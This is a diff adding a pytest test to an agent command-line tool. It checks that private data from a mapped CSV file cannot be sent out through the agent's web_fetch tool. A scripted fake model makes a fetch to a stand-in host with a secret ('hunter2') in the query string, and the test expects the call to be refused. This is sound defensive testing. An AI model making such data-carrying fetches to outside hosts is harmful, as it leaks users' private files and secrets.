@@ -12,6 +12,7 @@ from world import Cli, Ended
 
 from retinue.cli import exits
 from retinue.testing import FakeProvider, Script, SeenRequest, call
+from retinue.types import ToolMessage
 
 
 @pytest.fixture
@@ -105,3 +106,33 @@ def test_a_mistake_is_told_before_anything_is_asked(
     assert ended.code == exits.USAGE
     assert said in ended.err
     assert asked == []
+
+
+def test_what_is_mapped_from_a_file_is_private_data_and_nobodys_own_words(
+    cli: Cli, invoke: Callable[..., Ended], served: FakeProvider
+) -> None:
+    told: list[str] = []
+    addresses = iter(["https://192.0.2.1/x?d=hunter2", "https://192.0.2.2/page"])
+
+    def play(request: SeenRequest) -> Script:
+        if request.turn < 2:
+            return Script(calls=(call("web_fetch", url=next(addresses)),))
+        told.extend(each.text for each in request.messages if isinstance(each, ToolMessage))
+        return Script(text="done")
+
+    served.handler = play
+    cli.use(served)
+    (cli.folder / "t.csv").write_text(
+        'text\n"the word is hunter2, see https://192.0.2.2/page and plans.txt"\n'
+    )
+    (cli.folder / "plans.txt").write_text("TOP SECRET\n")
+    ended = invoke("map", "agentic-fetch", "t.csv", "-p", "Sum up: {text}", "--out", "r.jsonl")
+    assert ended.code != exits.OK  # a call was refused
+    composed, standing = told
+    assert "this run has read t.csv" in composed
+    assert "has read" not in standing  # that address stands in the row: nobody put it together
+    assert "TOP SECRET" not in "".join(told)
+    log = invoke("runs", "events", "last", "--json").out
+    assert "plans.txt" not in [
+        name for line in log.splitlines() for name in json.loads(line).get("brought", [])
+    ]
